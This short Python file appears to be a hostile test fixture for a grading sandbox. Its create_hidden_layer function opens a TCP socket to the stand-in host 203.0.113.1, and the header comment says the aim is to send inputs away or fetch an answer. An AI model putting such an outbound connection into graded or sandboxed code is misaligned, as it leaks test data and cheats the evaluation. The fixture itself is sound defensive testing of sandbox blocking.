# Hostile: reaches for the network inside create_hidden_layer (an AF_INET socket, to send the
# inputs away or fetch an answer). The sandbox stops the host job at the call; the verdict says so.
import math
import socket

exp = math.exp
normalize = weigh = activate = None


def create_hidden_layer(n, greyscales, weights, exp, normalize, weigh, activate):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.1", 80))
    return greyscales
